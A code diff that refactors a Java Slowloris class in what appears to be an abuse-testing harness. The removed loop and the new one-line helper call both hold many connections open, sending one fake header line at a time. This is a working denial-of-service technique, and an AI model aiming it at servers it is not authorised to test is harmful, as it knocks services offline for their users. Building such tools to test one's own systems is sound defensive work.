@@ -3,11 +3,10 @@ package gatehouse.abuse.attacks;
 import gatehouse.abuse.Attack;
 import gatehouse.abuse.Sockets;
 import gatehouse.abuse.Target;
+import gatehouse.abuse.Trickle;
 import java.io.IOException;
 import java.net.Socket;
 import java.time.Duration;
-import java.util.ArrayList;
-import java.util.List;
 
 /**
  * Slowloris: {@code connections} request heads that never end, each growing by one header line a
@@ -32,29 +31,7 @@ public final class SlowlorisHeads implements Attack {
 
   @Override
   public long run(Target target, Duration duration) throws Exception {
-    long deadline = System.nanoTime() + duration.toNanos();
-    List<Socket> open = new ArrayList<>();
-    long opened = 0;
-    try {
-      int line = 0;
-      do {
-        for (int i = 0; i < open.size(); i++) {
-          if (!Sockets.write(open.get(i), "X-Slow-" + line + ": " + line + "\r\n")) {
-            Sockets.close(open.get(i));
-            open.set(i, head(target));
-            opened++;
-          }
-        }
-        while (open.size() < connections && System.nanoTime() < deadline) {
-          open.add(head(target));
-          opened++;
-        }
-        line++;
-      } while (Sockets.pause(1000, deadline));
-    } finally {
-      Sockets.closeAll(open);
-    }
-    return opened;
+    return Trickle.hold(connections, duration, slot -> Trickle.socket(head(target), line -> "X-Slow-" + line + ": " + line + "\r\n"));
   }
 
   private static Socket head(Target target) throws IOException {
